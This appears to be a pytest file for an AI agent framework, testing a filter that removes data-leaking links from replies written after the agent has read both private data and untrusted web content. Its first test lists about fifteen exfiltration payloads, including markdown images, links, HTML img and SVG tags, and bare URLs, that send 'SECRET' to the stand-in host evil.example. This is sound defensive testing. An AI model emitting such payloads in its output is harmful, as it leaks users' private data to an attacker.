"""A reply made in sight of private data and strangers' words carries nothing out by itself."""

import pytest

from ostiary.contracts.content import AnswerPart, Label, Text, ToolMessage, ToolOutcome, Trust, UserMessage
from ostiary.core.agent.leaks import neutralised

BOTH = Label(trust=Trust.UNTRUSTED, sources=("web:evil.example",), private=True)
PRIVATE = Label(trust=Trust.OWNER, private=True)
OUTSIDE = Label(trust=Trust.UNTRUSTED)
HISTORY = (
    UserMessage(parts=(Text(text="Compare https://shop.example/item?id=7, please", label=PRIVATE),)),
    ToolMessage(
        outcomes=(
            ToolOutcome(call_id="c", name="web_fetch", text="more at https://evil.example/next", is_error=False, label=OUTSIDE),
        )
    ),
)


def reply(text: str, label: Label = BOTH) -> str:
    parts: tuple[AnswerPart, ...] = neutralised((Text(text=text, label=label),), label, HISTORY)
    return "".join(part.text for part in parts if isinstance(part, Text))


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p.png?d=SECRET)",
        "![x](<https://evil.example/p.png?d=SECRET>)",
        "![x](//evil.example/SECRET.png)",
        "![ref][1]\n\n[1]: https://evil.example/?d=SECRET",
        "[click](https://evil.example/?d=SECRET)",
        "<img src='https://evil.example/?d=SECRET'>",
        "<img src='https://evil.example/?d=SECRET'",
        "see https://evil.example/?d=SECRET.",
        "see HTTPS://evil.example/SECRET",
        "see https://SECRET.evil.example/",
        "see https://user:SECRET@evil.example/",
        "see evil.example/SECRET",
        "see https://evil.example/next/SECRET",
        "see https://evil.example/next?d=SECRET",
        "<svg><image href='https://evil.example/?d=SECRET'/></svg>",
    ],
)
def test_what_would_carry_data_out_is_taken_out(text: str) -> None:
    assert "SECRET" not in reply(text)


@pytest.mark.parametrize(
    "text",
    [
        "It is https://shop.example/item?id=7.",
        "[the item](https://shop.example/item?id=7)",
        "The page names https://evil.example/next as well.",
        "No address at all, just 3 < 4 and a/b and file.txt.",
        "`src/main.py` and and/or",
    ],
)
def test_addresses_from_the_conversation_and_plain_words_stay(text: str) -> None:
    assert reply(text) == text


@pytest.mark.parametrize("label", [PRIVATE, OUTSIDE])
def test_with_one_half_of_the_danger_nothing_is_touched(label: Label) -> None:
    text = "![x](https://elsewhere.example/p.png) https://elsewhere.example/?q=1"
    assert reply(text, label) == text
